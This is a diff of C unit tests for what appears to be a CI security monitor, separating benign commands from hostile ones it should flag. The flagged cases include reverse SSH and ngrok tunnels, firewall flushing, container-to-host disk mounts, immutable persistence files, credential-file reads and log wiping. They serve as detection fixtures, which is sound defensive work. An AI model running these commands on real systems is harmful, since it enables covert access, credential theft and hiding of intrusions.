@@ -1890,6 +1890,26 @@ static const struct exec_case ordinary[] = {
 	{ "/usr/sbin/useradd", ARGV("useradd", "-m", "-u", "1000", "builder"), SH_MAKE, NULL },
 	{ "/usr/sbin/bpftool", ARGV("bpftool", "prog", "show"), SH_MAKE, NULL },
 	{ "/usr/sbin/bpftool", ARGV("bpftool", "gen", "skeleton", "x.bpf.o"), SH_MAKE, NULL },
+	/* other attributes; ssh's ordinary options and local forwarding; loop and pseudo mounts */
+	{ "/usr/bin/chattr", ARGV("chattr", "+C", "/var/lib/build"), SH_MAKE, NULL },
+	{ "/usr/bin/lsattr", ARGV("lsattr", "-d", "/tmp"), SH_MAKE, NULL },
+	{ "/usr/bin/ssh",
+	  ARGV("ssh", "-oUserKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=no", "-i", "k",
+	       "-p", "2222", "-T", "git@github.com"),
+	  SH_MAKE, NULL },
+	{ "/usr/bin/ssh", ARGV("ssh", "-fNL", "5432:db:5432", "bastion"), SH_MAKE, NULL },
+	{ "/usr/bin/mount", ARGV("mount", "-o", "loop", "disk.img", "/mnt/img"), SH_MAKE, NULL },
+	{ "/usr/bin/mount", ARGV("mount", "-t", "proc", "proc", "rootfs/proc"), SH_MAKE, NULL },
+	{ "/usr/bin/mount", ARGV("mount", "/dev/loop3p1", "/mnt/img"), SH_MAKE, NULL },
+	/* docker's own chains, containers' forwarding, listing the rules */
+	{ "/usr/sbin/iptables", ARGV("iptables", "--wait", "-t", "nat", "-F", "DOCKER"), SH_MAKE, NULL },
+	{ "/usr/sbin/iptables", ARGV("iptables", "-P", "FORWARD", "ACCEPT"), SH_MAKE, NULL },
+	{ "/usr/sbin/iptables", ARGV("iptables", "-L", "-n"), SH_MAKE, NULL },
+	{ "/usr/sbin/iptables", ARGV("iptables", "-A", "OUTPUT", "-d", "10.0.0.1", "-j", "DROP"),
+	  SH_MAKE, NULL },
+	{ "/usr/sbin/nft", ARGV("nft", "list", "ruleset"), SH_MAKE, NULL },
+	{ "/usr/sbin/ufw", ARGV("ufw", "status"), SH_MAKE, NULL },
+	{ "/usr/bin/systemctl", ARGV("systemctl", "restart", "ufw"), SH_MAKE, NULL },
 	/* waiting for a docker-in-docker daemon: a GET of its socket */
 	{ "/usr/bin/curl",
 	  ARGV("curl", "-sf", "--unix-socket", "/var/run/docker.sock", "http://localhost/_ping"),
@@ -2033,6 +2053,29 @@ static const struct exec_case attacks[] = {
 	  "security-monitoring-stopped" },
 	{ "/usr/sbin/bpftool", ARGV("bpftool", "map", "delete", "id", "7", "key", "1", "0", "0", "0"),
 	  NPM_ANC, "security-monitoring-stopped" },
+	{ "/usr/bin/chattr", ARGV("chattr", "+i", "/etc/cron.d/sync"), NPM_ANC, "file-made-immutable" },
+	{ "/usr/bin/chattr", ARGV("chattr", "-R", "-ia", "/root/.ssh"), NPM_ANC, "file-made-immutable" },
+	{ "/usr/local/bin/ngrok", ARGV("ngrok", "tcp", "22"), NPM_ANC, "remote-access-tunnel" },
+	{ "/usr/bin/cloudflared", ARGV("cloudflared", "tunnel", "--url", "http://localhost:8080"),
+	  NPM_ANC, "remote-access-tunnel" },
+	{ "/usr/bin/tmate", ARGV("tmate", "-F"), NPM_ANC, "remote-access-tunnel" },
+	{ "/usr/bin/ssh", ARGV("ssh", "-fNR", "2222:localhost:22", "u@h"), NPM_ANC,
+	  "remote-access-tunnel" },
+	{ "/usr/bin/ssh", ARGV("ssh", "-D", "1080", "u@h"), NPM_ANC, "remote-access-tunnel" },
+	{ "/usr/bin/ssh", ARGV("ssh", "-o", "RemoteForward 9000 localhost:9000", "u@h"), NPM_ANC,
+	  "remote-access-tunnel" },
+	{ "/usr/bin/mount", ARGV("mount", "/dev/nvme0n1p1", "/mnt/host"), NPM_ANC,
+	  "container-host-escape" },
+	{ "/usr/sbin/debugfs", ARGV("debugfs", "-w", "/dev/sda1"), NPM_ANC, "container-host-escape" },
+	{ "/usr/sbin/iptables", ARGV("iptables", "-F"), NPM_ANC, "security-monitoring-stopped" },
+	{ "/usr/sbin/iptables-nft", ARGV("iptables-nft", "-t", "filter", "--flush", "OUTPUT"), NPM_ANC,
+	  "security-monitoring-stopped" },
+	{ "/usr/sbin/ip6tables", ARGV("ip6tables", "-P", "OUTPUT", "ACCEPT"), NPM_ANC,
+	  "security-monitoring-stopped" },
+	{ "/usr/sbin/nft", ARGV("nft", "flush", "ruleset"), NPM_ANC, "security-monitoring-stopped" },
+	{ "/usr/sbin/ufw", ARGV("ufw", "disable"), NPM_ANC, "security-monitoring-stopped" },
+	{ "/usr/bin/systemctl", ARGV("systemctl", "stop", "firewalld"), NPM_ANC,
+	  "security-monitoring-stopped" },
 };
 
 static void run_cases(const struct bw_policy *p, const struct exec_case *c, size_t n)
@@ -2449,6 +2492,77 @@ static void test_default_provenance(void **state)
 		    false);
 	e->file.link_target = "/lib/systemd/system/x.service";
 	assert_int_equal(policy_match_event(p, e, out, 8), 0);
+	/* the runner's downloaded actions and its Node.js: poisoned by a step,
+	 * fetched by the runner; the tool cache written by the runner's node
+	 * (ev_file resets the process: set it after) */
+	e = ev_file(&x, "open-write",
+		    "/home/runner/actions-runner/_work/_actions/actions/checkout/v4/dist/index.js",
+		    NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", "echo x >> index.js"), NPM_ANC);
+	assert_true(ev_matches(p, e, "persistence-write"));
+	fx_set(&x.proc, "/home/runner/actions-runner/bin/Runner.Worker", ARGV("Runner.Worker"),
+	       SH_MAKE);
+	assert_false(ev_matches(p, e, "persistence-write"));
+	e = ev_file(&x, "rename", "/tmp/n", "/home/runner/actions-runner/externals/node20/bin/node", 0,
+		    false);
+	assert_true(ev_matches(p, e, "persistence-write"));
+	e = ev_file(&x, "open-write", "/opt/hostedtoolcache/go/1.22.0/x64/bin/go", NULL, 0, false);
+	fx_set(&x.proc, "/home/runner/actions-runner/externals/node20/bin/node",
+	       ARGV("node", "/home/runner/actions-runner/_work/_actions/actions/setup-go/v5/dist/index.js"),
+	       SH_MAKE);
+	assert_false(ev_matches(p, e, "persistence-write"));
+	e = ev_file(&x, "open-write",
+		    "/home/runner/actions-runner/_work/_actions/actions/cache/v4/dist/index.js", NULL, 0,
+		    false);
+	fx_set(&x.proc, "/home/runner/actions-runner/externals/node20/bin/node",
+	       ARGV("node", "/home/runner/actions-runner/_work/_actions/evil/x/v1/dist/index.js"),
+	       SH_MAKE);
+	assert_true(ev_matches(p, e, "persistence-write"));
+	/* secrets typed into a shell's history, a GnuPG secret key, a password
+	 * store: read by another program; by their own, not */
+	e = ev_file(&x, "open-read", "/home/ci/.bash_history", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/grep", ARGV("grep", "-i", "pass", "/home/ci/.bash_history"), NPM_ANC);
+	assert_true(ev_matches(p, e, "credential-file-access"));
+	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-i"), NPM_ANC);
+	assert_false(ev_matches(p, e, "credential-file-access"));
+	e = ev_file(&x, "open-read", "/home/ci/.gnupg/private-keys-v1.d/0A1B.key", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/tar", ARGV("tar", "czf", "-", "/home/ci/.gnupg"), NPM_ANC);
+	assert_true(ev_matches(p, e, "credential-file-access"));
+	fx_set(&x.proc, "/usr/bin/gpg-agent", ARGV("gpg-agent", "--daemon"), NPM_ANC);
+	assert_false(ev_matches(p, e, "credential-file-access"));
+	e = ev_file(&x, "open-read", "/home/ci/.gnupg/pubring.kbx", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/cat", ARGV("cat", "/home/ci/.gnupg/pubring.kbx"), NPM_ANC);
+	assert_false(ev_matches(p, e, "credential-file-access"));
+	e = ev_file(&x, "open-read", "/home/ci/.password-store/aws/prod.gpg", NULL, 0, false);
+	assert_true(ev_matches(p, e, "credential-file-access"));
+	e = ev_file(&x, "open-read", "/home/ci/.azure/msal_token_cache.json", NULL, 0, false);
+	assert_true(ev_matches(p, e, "credential-file-access"));
+	fx_set(&x.proc, "/usr/bin/python3.11", ARGV("/usr/bin/python3", "-Im", "azure.cli", "login"),
+	       NPM_ANC);
+	assert_false(ev_matches(p, e, "credential-file-access"));
+	/* logs and histories wiped: truncated, overwritten, removed, linked
+	 * to /dev/null; appended to, or rotated by their tools, not */
+	e = ev_file(&x, "open-write", "/var/log/auth.log", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", ": > /var/log/auth.log"), NPM_ANC);
+	assert_true(ev_matches(p, e, "indicator-removal"));
+	e->file.append = true;
+	assert_false(ev_matches(p, e, "indicator-removal"));
+	e = ev_file(&x, "unlink", "/var/log/journal/0a1b/system.journal", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/journalctl", ARGV("journalctl", "--vacuum-time=1s"), NPM_ANC);
+	assert_true(ev_matches(p, e, "indicator-removal"));
+	e = ev_file(&x, "symlink", "/home/ci/.bash_history", NULL, 0, false);
+	e->file.link_target = "/dev/null";
+	fx_set(&x.proc, "/usr/bin/ln", ARGV("ln", "-sf", "/dev/null", "/home/ci/.bash_history"), NPM_ANC);
+	assert_true(ev_matches(p, e, "indicator-removal"));
+	e = ev_file(&x, "open-write", "/var/log/apt/eipp.log.xz", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/apt-get", ARGV("apt-get", "install", "-y", "jq"), SH_MAKE);
+	assert_false(ev_matches(p, e, "indicator-removal"));
+	e = ev_file(&x, "rename", "/var/log/syslog", "/var/log/syslog.1", 0, false);
+	fx_set(&x.proc, "/usr/sbin/logrotate", ARGV("logrotate", "/etc/logrotate.conf"), SH_MAKE);
+	assert_false(ev_matches(p, e, "indicator-removal"));
+	e = ev_file(&x, "open-write", "/home/ci/src/project/build/var/log/test.log", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/make", ARGV("make", "check"), SH_MAKE);
+	assert_false(ev_matches(p, e, "indicator-removal"));
 	policy_free(p);
 }
 
